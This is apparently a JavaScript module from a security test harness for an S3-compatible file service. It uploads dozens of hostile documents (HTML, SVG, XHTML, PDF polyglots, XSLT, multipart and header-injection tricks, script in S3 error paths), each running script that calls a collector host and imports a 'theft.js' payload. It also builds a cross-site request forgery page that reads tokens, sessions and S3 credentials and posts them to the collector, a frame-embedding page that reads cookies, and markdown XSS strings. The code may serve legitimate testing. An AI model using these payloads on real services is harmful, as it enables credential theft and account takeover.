// Documents that mean harm, stored or named by somebody of another company, each behind the link that leads anybody to it.
import { createHash, createHmac } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { put } from './world.mjs';

const strict = (text) => encodeURIComponent(text).replace(/[!'()*]/g, (letter) => `%${letter.charCodeAt(0).toString(16).toUpperCase()}`);
const hmac = (key, text) => createHmac('sha256', key).update(text).digest();

/** An address that anybody may use: AWS Signature Version 4 in its query. */
export function sign({ address, key }, method, path, query = {}, headers = {}) {
  const stamp = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
  const scope = `${stamp.slice(0, 8)}/atrium/s3/aws4_request`;
  const names = ['host', ...Object.keys(headers).filter((name) => name.startsWith('x-amz-')).sort()];
  const place = path.split('/').map(strict).join('/');
  const all = { ...query, 'X-Amz-Algorithm': 'AWS4-HMAC-SHA256', 'X-Amz-Credential': `${key.access_key_id}/${scope}`, 'X-Amz-Date': stamp, 'X-Amz-Expires': '600', 'X-Amz-SignedHeaders': names.join(';') };
  const asked = Object.keys(all).sort().map((name) => `${strict(name)}=${strict(all[name])}`).join('&');
  const canonical = [method, place, asked, ...names.map((name) => `${name}:${headers[name] ?? new URL(address).host}`), '', names.join(';'), 'UNSIGNED-PAYLOAD'].join('\n');
  const secret = scope.split('/').reduce(hmac, `AWS4${key.secret_access_key}`);
  const signature = hmac(secret, ['AWS4-HMAC-SHA256', stamp, scope, createHash('sha256').update(canonical).digest('hex')].join('\n'));
  return `${address}${place}?${asked}&X-Amz-Signature=${signature.toString('hex')}`;
}

async function send(house, method, path, { query, body, headers } = {}) {
  const answer = await fetch(sign(house, method, path, query, headers), { method, body, headers });
  if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${await answer.text()}`);
  return answer.text();
}

/** Runs as soon as anything does: one word to the collector, then the whole theft. No character that markup would mind. */
const spell = (collector, name) => `new Image().src="${collector}/heard/${name}";import("${collector}/theft.js/${name}")`;
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

/** A store of one object; the link shows it as it is, or with what the link says instead. */
const object = (type, write, { link = {}, headers = {} } = {}) => async (house, name, spelled) => {
  const path = `/files/hostile/${name}`;
  await send(house, 'PUT', path, { body: await write(spelled, house, name), headers: { 'content-type': type, ...headers } });
  return sign(house, 'GET', path, link);
};

const page = (spelled, more = '') => `<!doctype html><title>Invoice</title><script>${spelled}</script><p>Invoice</p>${more}`;
const html = (write, more) => object('text/html', write, more);
const PAGE = { link: { 'response-content-type': 'text/html', 'response-content-disposition': 'inline' } };

/** A further file of the attacker's, for a document to load. */
async function beside(house, name, type, body) {
  await send(house, 'PUT', `/files/beside/${name}`, { body, headers: { 'content-type': type } });
  return sign(house, 'GET', `/files/beside/${name}`);
}

async function corsDocument(house, name, spelled) {
  const script = `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${spelled}</x:script>`;
  const sent = `<CORSConfiguration>${script}<CORSRule><ID>${'&lt;script&gt;'}</ID><AllowedOrigin>*</AllowedOrigin><AllowedMethod>GET</AllowedMethod>${script}</CORSRule></CORSConfiguration>`;
  await send(house, 'PUT', '/files', { query: { cors: '' }, body: sent });
  const link = sign(house, 'GET', '/files', { cors: '' });
  const { pathname, search } = new URL(link);
  // What the server used to answer: the document as it came.
  house.instead.set(pathname + search, sent);
  return link;
}

async function listing(house, name, spelled) {
  await send(house, 'PUT', `/files/listed/<script ${XHTML}>${spelled.replaceAll('/', '\\u002f')}<\\script>`, { body: 'x' });
  return sign(house, 'GET', '/files', { 'list-type': '2', prefix: 'listed/', delimiter: `<?xml-stylesheet href="${house.collector}/style/${name}"?>` });
}

async function uploads(house, name, spelled) {
  await send(house, 'POST', `/files/begun/<x ${XHTML} onload='${spelled}'>`, { query: { uploads: '' } });
  return sign(house, 'GET', '/files', { uploads: '', prefix: 'begun/' });
}

async function tags(house, name) {
  await send(house, 'PUT', `/files/tagged`, { body: 'x' });
  await send(house, 'PUT', `/files/tagged`, { query: { tagging: '' }, body: `<Tagging><TagSet><Tag><Key>a</Key><Value>${house.collector}/heard/${name}</Value></Tag></TagSet></Tagging>` });
  return sign(house, 'GET', '/files/tagged', { tagging: '' });
}

async function transformed(spelled, house, name) {
  const sheet = await beside(house, `${name}.xsl`, 'text/xsl', `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${spelled}</script></html></xsl:template></xsl:stylesheet>`);
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${sheet.replaceAll('&', '&amp;')}"?><invoice/>`;
}

async function withModule(spelled, house, name) {
  return `<script type="module" src="${await beside(house, `${name}.js`, 'text/javascript', spelled)}"></script>`;
}

async function withWorker(spelled, house, name) {
  const worker = await beside(house, `${name}.js`, 'text/javascript', `fetch("${house.collector}/worker/${name}")`);
  return page(`${spelled};navigator.serviceWorker.register(${JSON.stringify(worker)},{scope:"/"}).catch(()=>navigator.serviceWorker.register(${JSON.stringify(worker)}))`);
}

async function withStyles(spelled, house, name) {
  const sheet = await beside(house, `${name}.css`, 'text/css', `@import "${house.collector}/style/${name}";`);
  return `<style>@import "${house.collector}/style/${name}";body{background:url(${house.collector}/heard/${name})}</style><link rel="stylesheet" href="${sheet}"><p>Invoice</p>`;
}

async function withUse(spelled, house, name) {
  const drawing = await beside(house, `${name}.svg`, 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" id="a"><script>${spelled}</script></svg>`);
  return `<svg xmlns="http://www.w3.org/2000/svg"><use href="${drawing.replaceAll('&', '&amp;')}#a"/><image href="${house.collector}/heard/${name}"/></svg>`;
}

const frames = (address) => `<iframe src="${address}/"></iframe><object data="${address}/"></object><embed src="${address}/">`;
/** JSON in a form that needs no leave: the text is one field's name, an equals sign and its value. */
const form = (address, path, text) => `<form method="post" enctype="text/plain" action="${address}${path}"><input name='${text.split('=')[0]}' value='${text.split('=')[1]}'></form>`;
const paper = (action) => `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;

/** Each document by its name: what stores it and says where it is. */
const WAYS = {
  'cors-document': corsDocument,
  'html': html(page),
  'html-repository': async (house, name, spelled) => {
    const { key } = await put(house, house.token, `${name}.html`, page(spelled), 'text/html');
    return sign(house, 'GET', `/files/${key}`);
  },
  'html-override': object('application/octet-stream', page, PAGE),
  'html-injection': object('text/plain', page, { link: { 'response-content-type': 'text/html\r\ncontent-security-policy: default-src *', 'response-content-disposition': 'inline\r\n\r\n<script>1</script>', 'response-content-language': 'en\r\nx-y: z' } }),
  'html-kept-headers': html(page, { headers: { 'content-disposition': 'inline', 'cache-control': 'public, max-age=31536000', 'x-amz-meta-service-worker-allowed': '/', 'x-amz-meta-content-security-policy': 'default-src *' } }),
  'html-gzip': html((spelled) => gzipSync(page(spelled)), { headers: { 'content-encoding': 'gzip' } }),
  'html-charset': object('text/html; charset=utf-16le', (spelled) => Buffer.from(`\ufeff${page(spelled)}`, 'utf16le')),
  'html-as-text': object('text/plain', page),
  'html-as-nothing': object('unknown/unknown', page),
  'html-as-image': object('image/png', page),
  'html-refresh': html((spelled, house, name) => `<meta http-equiv="refresh" content="0;url=${house.collector}/heard/${name}"><link rel="prefetch" href="${house.collector}/heard/${name}"><link rel="stylesheet" href="${house.collector}/heard/${name}">`),
  'html-form-token': html((spelled, house) => page(`${spelled};onload=()=>document.forms[0].submit()`, form(house.address, '/api/tokens', '{"name":"taken="}'))),
  'html-form-note': html((spelled, house) => page(`${spelled};onload=()=>document.forms[0].submit()`, form(house.address, '/api/notes', '{"title":"Taken by a form","body":"="}'))),
  'html-frames': html((spelled, house) => page(`${spelled};onload=()=>fetch("${house.collector}/heard/frames",{method:"POST",mode:"no-cors",body:frames[0].document.documentElement.outerHTML})`, frames(house.address))),
  'html-events': html((spelled) => `<img src=x onerror='${spelled}'><body onload='${spelled}'><details open ontoggle='${spelled}'>`),
  'html-source-document': html((spelled) => `<iframe srcdoc='<script>${spelled.replaceAll('"', '&quot;')}</script>'></iframe>`),
  'html-base': html((spelled, house, name) => `<base href="${house.collector}/heard/${name}/"><script src="x.js"></script><img src="x.png">`),
  'html-popup': html((spelled) => page(`${spelled};open("/")`)),
  'html-module': html(withModule),
  'html-service-worker': html(withWorker),
  'html-styles': html(withStyles),
  'pdf-html': object('application/pdf', page),
  'pdf-html-override': object('application/pdf', page, PAGE),
  'pdf-polyglot': object('application/pdf', (spelled) => `%PDF-1.7\n${page(spelled)}`),
  'pdf-polyglot-override': object('application/pdf', (spelled) => `%PDF-1.7\n${page(spelled)}`, PAGE),
  'pdf-script': object('application/pdf', (spelled, house, name) => paper(`<</S/JavaScript/JS(app.launchURL\\("${house.collector}/heard/${name}"\\))>>`)),
  'pdf-link': object('application/pdf', (spelled, house, name) => paper(`<</S/URI/URI(${house.collector}/heard/${name})>>`)),
  'svg-script': object('image/svg+xml', (spelled) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${spelled}</script></svg>`),
  'svg-onload': object('image/svg+xml', (spelled) => `<svg xmlns="http://www.w3.org/2000/svg" onload='${spelled}'/>`),
  'svg-foreign-object': object('image/svg+xml', (spelled) => `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><body ${XHTML}><script>${spelled}</script></body></foreignObject></svg>`),
  'svg-use': object('image/svg+xml', withUse),
  'xhtml': object('application/xhtml+xml', (spelled) => `<html ${XHTML}><body><script>${spelled}</script></body></html>`),
  'xhtml-override': object('text/plain', (spelled) => `<html ${XHTML}><body onload='${spelled}'/></html>`, { link: { 'response-content-type': 'application/xhtml+xml' } }),
  'xml-script': object('text/xml', (spelled) => `<a><script ${XHTML}>${spelled}</script></a>`),
  'xml-stylesheet': object('application/xml', transformed),
  'xml-css': object('application/xml', (spelled, house, name) => `<?xml-stylesheet type="text/css" href="${house.collector}/style/${name}"?><a/>`),
  'xml-entity': object('application/xml', (spelled) => `<!DOCTYPE a [<!ENTITY who SYSTEM "/api/whoami"><!ENTITY b '<script ${XHTML.replaceAll('"', '&#34;')}>${spelled.replaceAll('"', '&#34;')}</script>'>]><a>&who;&b;</a>`),
  'mathml': object('application/mathml+xml', (spelled) => `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script ${XHTML}>${spelled}</script></mtext></math>`),
  'mixed-replace': object('multipart/x-mixed-replace; boundary=b', (spelled) => `--b\r\ncontent-type: text/html\r\n\r\n${page(spelled)}\r\n--b--\r\n`),
  'mixed-replace-override': object('text/plain', (spelled) => `--b\r\ncontent-type: text/html\r\n\r\n${page(spelled)}\r\n--b--\r\n`, { link: { 'response-content-type': 'multipart/x-mixed-replace; boundary=b' } }),
  'mail-page': object('multipart/related; boundary=b', (spelled) => `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\ncontent-type: text/html\r\n\r\n${page(spelled)}\r\n--b--\r\n`),
  'script': object('text/javascript', (spelled) => spelled),
  's3-listing': listing,
  's3-uploads': uploads,
  's3-tags': tags,
  's3-no-such-key': async (house, name, spelled) => sign(house, 'GET', `/files/<script ${XHTML}>${spelled}</script>`),
  's3-no-such-bucket': async (house, name, spelled) => sign(house, 'GET', `/<script ${XHTML}>${spelled}</script>`),
  's3-bad-argument': async (house, name, spelled) => sign(house, 'GET', '/files', { 'max-keys': `<script ${XHTML}>${spelled}</script>` }),
  's3-bad-signature': async (house, name, spelled) => `${house.address}/files/x?X-Amz-Signature=x&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=60&X-Amz-Credential=${strict(`<script ${XHTML}>${spelled}</script>`)}`,
  's3-unsigned': async (house, name, spelled) => `${house.address}/s3/${strict(`<script ${XHTML}>${spelled}</script>`)}`,
  'api-refusal': async (house, name, spelled) => `${house.address}/api/notes/${strict(`<script>${spelled}</script>`)}`,
  'no-such-address': async (house, name, spelled) => `${house.address}/${strict(`<script>${spelled}</script>`)}?<script>${strict(spelled)}</script>`,
};

/** Those whose scripts or loads a browser does when nothing tells it not to; the others are held by something else as well. */
export const LIVELY = [
  'cors-document', 'html', 'html-repository', 'html-override', 'html-kept-headers', 'html-gzip', 'html-charset', 'html-as-nothing', 'html-refresh', 'html-form-token', 'html-form-note', 'html-frames',
  'html-events', 'html-source-document', 'html-base', 'html-popup', 'html-module', 'html-service-worker', 'html-styles', 'pdf-html-override', 'pdf-polyglot-override', 'svg-script', 'svg-onload',
  'svg-foreign-object', 'svg-use', 'xhtml', 'xhtml-override', 'xml-script', 'xml-stylesheet', 'xml-css',
];

/** Everything stored, and the links to it. */
export async function storeAll(house) {
  const links = {};
  for (const [name, way] of Object.entries(WAYS)) links[name] = await way(house, name, spell(house.collector, name));
  return links;
}

const EMBEDDED = /^(cors-document|html|html-override|svg-script|xhtml|xml-stylesheet|pdf-html|pdf-polyglot|mixed-replace|s3-no-such-key)$/;
const quoted = (link) => link.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** Frames of every document, and a script that looks into each of them. */
export const embedding = (links, collector) => `<!doctype html><title>Offers</title>${Object.entries(links).filter(([name]) => EMBEDDED.test(name))
  .map(([, link]) => `<iframe src="${quoted(link)}"></iframe><object data="${quoted(link)}"></object><embed src="${quoted(link)}">`).join('')}
<script type="module">
  const read = [], all = [...document.querySelectorAll('iframe, object')];
  await new Promise((resolve) => { onload = resolve; setTimeout(resolve, 3000); });
  for (const one of all) {
    try { if (one.contentDocument.body.textContent && one.contentDocument.URL !== 'about:blank') read.push(one.contentDocument.documentElement.outerHTML) } catch {}
    try { if (one.contentWindow.document.cookie) read.push(one.contentWindow.document.cookie) } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  fetch('${collector}/heard/embed-report-' + location.hostname, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ read, tries: all.length * 2 }) });
</script>`;

/** Everything that a page can send to another origin without its leave: requests of all modes, images, forms, windows. */
export const forging = (address, collector) => `<!doctype html><title>Offers</title><iframe name="sink"></iframe>
${['/api/tokens', '/api/s3/credentials'].map((path) => form(address, path, '{"name":"taken="}')).join('')}${form(address, '/api/notes', '{"title":"Taken by a form","body":"="}')}
${['/api/logout', '/api/login', '/api/admin/seed', '/api/2fa/enable'].map((path) => form(address, path, '{"x":"="}')).join('')}
<script type="module">
  const at = ${JSON.stringify(address)}, read = [];
  let tries = 0;
  const attempt = async (act) => { tries += 1; try { const got = await act(); if (got) read.push(got) } catch {} };
  const reads = ['/', '/api/whoami', '/api/tokens', '/api/sessions', '/api/s3/credentials', '/api/members', '/api/notes', '/api/audit', '/openapi.json', '/s3/files'];
  const writes = [['/api/notes', { title: 'Forged' }], ['/api/tokens', { name: 'forged' }], ['/api/s3/credentials', { name: 'forged' }], ['/api/members', { username: 'forged', role: 'member' }], ['/api/logout', {}], ['/api/profile', { display_name: 'Forged' }]];
  const send = (path, options) => attempt(async () => (await fetch(at + path, { credentials: 'include', ...options })).text());
  const load = (kind, path) => attempt(() => new Promise((resolve) => {
    const one = Object.assign(document.createElement(kind), { onload: () => resolve(kind === 'img' && path + ' is an image'), onerror: () => resolve() });
    if (kind === 'link') one.rel = 'stylesheet';
    one[kind === 'link' ? 'href' : 'src'] = at + path;
    document.head.append(one);
  }));
  await Promise.all(reads.flatMap((path) => [send(path), send(path, { mode: 'no-cors' }), load('img', path), load('script', path), load('link', path)]));
  await Promise.all(writes.flatMap(([path, body]) => [
    ...['text/plain', 'application/json', 'application/x-www-form-urlencoded'].flatMap((type) => ['cors', 'no-cors'].map((mode) => send(path, { method: 'POST', mode, headers: { 'content-type': type }, body: JSON.stringify(body) }))),
    send(path, { method: 'POST', headers: { 'atrium-session': 'cookie' }, body: JSON.stringify(body) }), send(path, { method: 'PUT' }), send(path, { method: 'DELETE' }),
    attempt(() => { navigator.sendBeacon(at + path, JSON.stringify(body)) }),
  ]));
  for (const form of document.forms) {
    form.target = 'sink';
    await attempt(() => new Promise((resolve) => { document.querySelector('iframe').onload = () => resolve(); form.submit(); setTimeout(resolve, 1000) }));
    await attempt(() => frames[0].document.body.textContent);
  }
  const other = open(at + '/api/whoami');
  await new Promise((resolve) => setTimeout(resolve, 1000));
  await attempt(() => other.document.documentElement.outerHTML);
  await attempt(() => other.localStorage.length);
  other?.close();
  fetch('${collector}/heard/forge-report-' + location.hostname, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ read, tries }) });
</script>`;

const MARKS = (collector, name) => ['<script>', '<img src=x onerror=', '<svg onload=', '<iframe srcdoc='].map((mark) => `${mark}'${spell(collector, name)}'></script>`).join('\n\n');

/** What a colleague of the attacker's finds in the console itself: markup wherever text is shown. */
export const nasty = (collector, name, link) => `${MARKS(collector, name)}

[press](javascript:fetch('${collector}/heard/${name}')) [invoice](${link}) ![picture](${collector}/heard/${name}) <${collector}/> [data](data:text/html,<script>1</script>)

| a | ![b](${collector}/heard/${name}) |
|---|---|
| <b onmouseover=alert(1)>c</b> | \`${MARKS(collector, name).split('\n')[0]}\` |
`;
